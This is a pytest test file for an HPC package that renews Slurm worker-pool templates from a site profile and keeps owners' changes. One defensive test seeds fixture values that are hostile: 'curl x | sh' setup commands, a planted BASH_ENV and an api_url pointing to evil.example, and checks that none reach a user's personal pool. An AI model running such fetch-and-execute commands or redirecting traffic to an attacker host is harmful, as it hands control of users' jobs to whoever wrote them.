"""Pools that follow their site, and what their owners have changed since."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from hpc_bridge.sites.deriving import (
    RECORD,
    Derived,
    Renewed,
    allowed,
    personal,
    record_of,
    renewed,
    with_record,
    without_record,
)
from hpc_bridge.sites.profile import SiteProfile
from hpc_bridge.sites.template import site_template
from hpc_bridge.workers import SlurmWorker

PACKAGED = SlurmWorker.get_default_base_job_template()


def derived(description: str = "the site's", **profile: Any) -> Derived:
    profile = {"name": "hpc", "scheduler": {"type": "slurm"}, **profile}
    template = site_template(SiteProfile.model_validate(profile), PACKAGED)
    return Derived("hpc", template, description, user="anna")


def partitions(*names: str, **facts: Any) -> list[dict[str, Any]]:
    return [{"name": name, **facts} for name in names]


def walltime(default: str | None = None, maximum: str | None = None) -> dict[str, Any]:
    return {"job_variables": {"walltime": {"default": default, "maximum": maximum}}}


def default(template: dict[str, Any], name: str) -> Any:
    return template["variables"]["properties"][name].get("default")


class Pool:
    """One that was made before."""

    def __init__(self, made_from: Derived) -> None:
        self.template = with_record(made_from)
        self.description: str | None = made_from.description

    def set(self, name: str, value: Any) -> None:
        self.template["variables"]["properties"][name]["default"] = value

    def renew(self, source: Derived) -> Renewed:
        return renewed(self.template, self.description, source, PACKAGED)


def test_a_pool_that_is_up_to_date_stays_as_it_is() -> None:
    pool = Pool(derived(partitions=partitions("cpu")))
    update = pool.renew(derived(partitions=partitions("cpu")))
    assert update.changes == ()
    assert update.template == pool.template
    assert update.description == pool.description


def test_a_pool_follows_choices_and_defaults() -> None:
    pool = Pool(derived(partitions=partitions("cpu"), **walltime("1h")))
    update = pool.renew(derived(partitions=partitions("cpu", "gpu"), **walltime("2h")))
    assert default(update.template, "walltime") == "2h"
    assert "walltime: default 1h -> 2h" in update.changes
    assert any("choices (cpu) -> (cpu, gpu)" in change for change in update.changes)
    again = renewed(
        update.template,
        update.description,
        derived(partitions=partitions("cpu", "gpu"), **walltime("2h")),
        PACKAGED,
    )
    assert again.changes == ()


def test_a_default_that_the_owner_changed_stays() -> None:
    pool = Pool(derived(**walltime("1h")))
    pool.set("walltime", "3h")
    pool.set("account", "mine")
    update = pool.renew(derived(**walltime("2h")))
    assert default(update.template, "walltime") == "3h"
    assert default(update.template, "account") == "mine"
    assert update.warnings == ()


def test_a_default_that_the_owner_took_away_stays_away() -> None:
    pool = Pool(derived(**walltime("1h")))
    del pool.template["variables"]["properties"]["walltime"]["default"]
    update = pool.renew(derived(**walltime("2h")))
    assert default(update.template, "walltime") is None


def test_an_owners_default_that_is_no_longer_allowed_gives_way_with_a_word() -> None:
    pool = Pool(derived(partitions=partitions("cpu", "old"), **walltime("1h", "1d")))
    pool.set("partition", "old")
    pool.set("walltime", "20h")
    update = pool.renew(derived(partitions=partitions("cpu"), **walltime("1h", "12h")))
    assert default(update.template, "partition") is None
    assert default(update.template, "walltime") == "1h"
    assert update.warnings == (
        "partition: 'old' is not offered any more; it is None now",
        "walltime: '20h' is not offered any more; it is '1h' now",
    )


def test_what_the_owner_has_added_stays() -> None:
    pool = Pool(derived())
    pool.template["variables"]["properties"]["own"] = {"type": "string", "default": "x"}
    pool.template["variables"]["required"] = ["own"]
    pool.template["job_configuration"] |= {"own": "{{ own }}", "comment": "always this"}
    update = pool.renew(derived(partitions=partitions("cpu")))
    assert update.template["variables"]["properties"]["own"]["default"] == "x"
    assert update.template["variables"]["required"] == ["own"]
    assert update.template["job_configuration"]["own"] == "{{ own }}"
    assert update.template["job_configuration"]["comment"] == "always this"
    assert update.template["job_configuration"]["partition"] == "{{ partition }}"


def test_a_variable_that_the_site_has_no_more_is_removed() -> None:
    before = derived()
    before.template["variables"]["properties"]["gone"] = {"type": "string"}
    before.template["job_configuration"]["gone"] = "{{ gone }}"
    update = Pool(before).renew(derived())
    assert "gone" not in update.template["variables"]["properties"]
    assert "gone" not in update.template["job_configuration"]
    assert update.changes == ("gone: removed",)


@pytest.mark.parametrize("by_hand", ["my own words", "", None])
def test_a_description_changed_by_hand_stays(by_hand: str | None) -> None:
    pool = Pool(derived("first"))
    pool.description = by_hand
    assert pool.renew(derived("second")).description == (by_hand or "")


def test_a_description_follows_the_site() -> None:
    update = Pool(derived("first")).renew(derived("second"))
    assert update.description == "second"
    assert "description: second" in update.changes


def test_a_pool_of_before_keeps_its_defaults_and_gets_the_form() -> None:
    template = copy.deepcopy(PACKAGED)
    template["variables"]["properties"]["shared_dir"]["default"] = "/mine"
    update = renewed(template, "by hand", derived(partitions=partitions("cpu")), PACKAGED)
    assert default(update.template, "shared_dir") == "/mine"
    assert default(update.template, "site") == "hpc"
    assert default(update.template, "scheduler") == "slurm"
    assert update.description == "by hand"
    record = record_of(update.template)
    assert record is not None
    assert record["adopted"] is True


def test_empty_defaults_that_the_servers_page_drops_are_no_change() -> None:
    pool = Pool(derived(partitions=partitions("cpu")))
    for field in pool.template["variables"]["properties"].values():
        if field.get("default") is None:
            field.pop("default", None)
    assert pool.renew(derived(partitions=partitions("cpu"))).changes == ()


def test_a_personal_pool_has_the_login_name_in_its_paths() -> None:
    site_pool = derived(paths={"shared_dir": "/gpfs/{user}/hpc"})
    mine = personal(Derived("hpc", with_record(site_pool), ""), "anna", "hpc-anna")
    assert default(mine.template, "shared_dir") == "/gpfs/anna/hpc"
    assert mine.user == "anna"
    assert record_of(mine.template) is None
    assert default(site_pool.template, "shared_dir") == "/gpfs/{user}/hpc"


def test_nothing_that_is_executed_comes_from_the_sites_own_pool() -> None:
    """Anybody who may edit pools could have written it there."""
    written = {"setup": ["curl x | sh"], "template": "#!/bin/sh\n", "env": {"BASH_ENV": "/tmp/x"}}
    site_pool = with_record(derived())
    for name, value in {**written, "api_url": "http://evil.example/api"}.items():
        site_pool["variables"]["properties"][name]["default"] = value
    site_pool["job_configuration"]["setup"] = ["curl y | sh"]
    mine = personal(Derived("hpc", site_pool, ""), "anna", "hpc-anna").template
    for name in (*written, "api_url"):
        assert "default" not in mine["variables"]["properties"][name]
    assert mine["job_configuration"]["setup"] == "{{ setup }}"


def test_a_record_is_what_this_package_wrote() -> None:
    assert record_of({}) is None
    assert record_of({"variables": None}) is None
    assert record_of({"variables": {RECORD: "odd"}}) is None
    made = with_record(derived())
    assert (record_of(made) or {})["site"] == "hpc"
    assert record_of(without_record(made)) is None


def test_units_are_compared_as_amounts() -> None:
    form = derived(partitions=partitions("cpu", memory_per_node="4000M", walltime="1d")).template
    fields = form["variables"]["properties"]
    assert allowed("memory", fields["memory"], "3G")
    assert not allowed("memory", fields["memory"], "4G")
    assert allowed("walltime", fields["walltime"], "24h")
    assert not allowed("walltime", fields["walltime"], "25h")
    assert not allowed("walltime", fields["walltime"], "soon")
    assert allowed("walltime", fields["walltime"], None)
